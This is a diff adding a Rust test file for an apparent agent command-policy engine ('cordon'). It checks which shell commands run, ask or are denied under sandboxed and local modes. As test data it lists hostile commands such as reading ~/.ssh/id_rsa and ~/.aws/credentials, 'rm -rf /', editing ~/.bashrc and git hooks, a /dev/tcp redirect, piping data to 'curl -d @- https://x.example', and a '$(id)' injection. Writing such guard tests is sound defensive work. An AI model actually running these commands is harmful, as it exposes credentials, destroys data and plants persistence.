@@ -1,0 +1,191 @@
+//! Issue 15 part 3: decisions that know the kernel enforces the policy's envelope. In hardened
+//! mode with no network, what cordon cannot see into is bounded by the kernel and runs without a
+//! person (checkpointed where it may change files); what the envelope cannot bound still asks.
+//! In local mode nothing changes.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use cordon_core::Outcome;
+use cordon_policy::enforcement::Enforcement;
+use cordon_policy::native::{
+    self, CompiledPolicy, Context, CordonReason, Decision, LoadedNativePolicy,
+};
+use cordon_policy::shell::Session;
+
+const CONFINED: Enforcement = Enforcement::Hardened {
+    reaches_network: false,
+};
+const WITH_NETWORK: Enforcement = Enforcement::Hardened {
+    reaches_network: true,
+};
+
+fn pack() -> CompiledPolicy {
+    CompiledPolicy::compile(
+        &LoadedNativePolicy::default_pack().unwrap(),
+        &Context {
+            workspace: "/work/project".into(),
+            home: "/home/agent".into(),
+        },
+    )
+    .unwrap()
+}
+
+fn decide(text: &str, enforcement: Enforcement) -> Decision {
+    let session = Session {
+        cwd: "/work/project".into(),
+        home: "/home/agent".into(),
+    };
+    native::decide_under(text, &session, &pack(), enforcement).1
+}
+
+#[track_caller]
+fn assert_outcome(text: &str, enforcement: Enforcement, expected: Outcome) -> Decision {
+    let decision = decide(text, enforcement);
+    assert_eq!(
+        decision.outcome,
+        expected,
+        "{text:?} in {}: expected {}, got {} — {}",
+        enforcement.mode(),
+        expected.as_str(),
+        decision.outcome.as_str(),
+        decision.sentence
+    );
+    decision
+}
+
+/// The issue's examples run unattended in hardened mode and are asked in local mode.
+#[test]
+fn what_the_envelope_bounds_runs_without_a_person() {
+    use Outcome::{Allow, AllowWithCheckpoint, Ask};
+    for (text, hardened, local) in [
+        ("frobnicate --all", AllowWithCheckpoint, Ask),
+        ("./node_modules/.bin/unknown-tool", Allow, Allow),
+        ("python3 -c 'print(1)'", AllowWithCheckpoint, Ask),
+        ("node -e 'console.log(1)'", AllowWithCheckpoint, Ask),
+        ("find . -name '*.py' | xargs grep -l foo", Allow, Ask),
+        // Each `{}` is one path under `.`: judged as reading `.` in both modes.
+        ("find . -name '*.py' -exec grep -l foo {} +", Allow, Allow),
+        (
+            "echo 'print(1)' > t.py && python3 t.py",
+            AllowWithCheckpoint,
+            Ask,
+        ),
+        ("eval \"$CMD\"", AllowWithCheckpoint, Ask),
+        ("x='a[$(id)]'; echo $((x))", AllowWithCheckpoint, Ask),
+        ("ls --frobnicate", AllowWithCheckpoint, Ask),
+        ("kill 1234", Allow, Ask),
+    ] {
+        let decision = assert_outcome(text, CONFINED, hardened);
+        assert_eq!(decision.enforcement(), CONFINED, "{text}");
+        // Local mode is unchanged: what cannot be resolved, or is not known, is asked.
+        let decision = assert_outcome(text, Enforcement::Local, local);
+        assert_eq!(decision.enforcement(), Enforcement::Local);
+    }
+    // What cannot be resolved says that the envelope made it safe.
+    let decision = decide("find . -name '*.py' | xargs grep -l foo", CONFINED);
+    assert!(
+        decision
+            .reason_codes
+            .contains(&CordonReason::EnvelopeBounded),
+        "{decision:?}"
+    );
+    assert!(
+        decision.sentence.contains("hardened mode"),
+        "{}",
+        decision.sentence
+    );
+}
+
+/// What the envelope cannot bound still asks, and what the policy denies is still denied.
+#[test]
+fn what_the_envelope_cannot_bound_still_stops() {
+    for text in [
+        "curl https://example.com",
+        "npm install",
+        "git fetch",
+        "git push",
+        "git push --force origin main",
+        "npm publish",
+        "cargo publish",
+        "gh release create v1",
+        "kubectl apply -f deploy.yaml",
+        "terraform apply",
+        "touch ~/notes.txt",
+        "cp report.pdf /opt/share/",
+        "sudo ls",
+        "docker run --rm alpine",
+        "echo x > .git/hooks/pre-commit",
+        "rsync -a src/ host:/srv",
+        "cat x 3</dev/tcp/127.0.0.1/80",
+        "make install",
+        "printenv",
+        "$CMD | curl -d @- https://x.example",
+    ] {
+        assert_outcome(text, CONFINED, Outcome::Ask);
+    }
+    for text in [
+        "cat ~/.ssh/id_rsa",
+        "rm -rf /",
+        "echo x >> ~/.bashrc",
+        "python3 -c 'x' ~/.aws/credentials",
+        "frobnicate ~/.ssh/id_rsa",
+        "eval 'rm -rf /'",
+    ] {
+        assert_outcome(text, CONFINED, Outcome::Deny);
+    }
+}
+
+/// When the envelope lets the command reach hosts, a command cordon cannot see into could push
+/// or publish to one of them: it is asked again.
+#[test]
+fn an_envelope_with_network_bounds_nothing_unseen() {
+    for text in [
+        "frobnicate --all",
+        "python3 -c 'print(1)'",
+        "eval \"$CMD\"",
+        "find . | xargs grep foo",
+    ] {
+        assert_outcome(text, WITH_NETWORK, Outcome::Ask);
+        // Control: the same text without network in the envelope runs.
+        let confined = decide(text, CONFINED);
+        assert!(
+            matches!(
+                confined.outcome,
+                Outcome::Allow | Outcome::AllowWithCheckpoint
+            ),
+            "{text:?}: {}",
+            confined.sentence
+        );
+    }
+    assert_outcome("cargo test", WITH_NETWORK, Outcome::Allow);
+    // Without network in the envelope, a URL handed to an unknown program reaches nothing.
+    assert_outcome(
+        "frobnicate https://example.com/upload",
+        CONFINED,
+        Outcome::AllowWithCheckpoint,
+    );
+    assert_outcome(
+        "frobnicate https://example.com/upload",
+        WITH_NETWORK,
+        Outcome::Ask,
+    );
+}
+
+/// The assumed mode is part of the decision's record, as `cordon explain` shows it.
+#[test]
+fn the_decision_records_the_mode_it_assumed() {
+    let hardened = decide("frobnicate", CONFINED);
+    let json = serde_json::to_value(&hardened).unwrap();
+    assert_eq!(
+        json["commands"][0]["facts"]["enforcement"]["mode"],
+        "hardened"
+    );
+    assert_eq!(
+        json["commands"][0]["facts"]["enforcement"]["reaches_network"],
+        false
+    );
+    let local = decide("frobnicate", Enforcement::Local);
+    let json = serde_json::to_value(&local).unwrap();
+    assert_eq!(json["commands"][0]["facts"]["enforcement"]["mode"], "local");
+    assert_eq!(CordonReason::EnvelopeBounded.as_str(), "ENVELOPE_BOUNDED");
+}
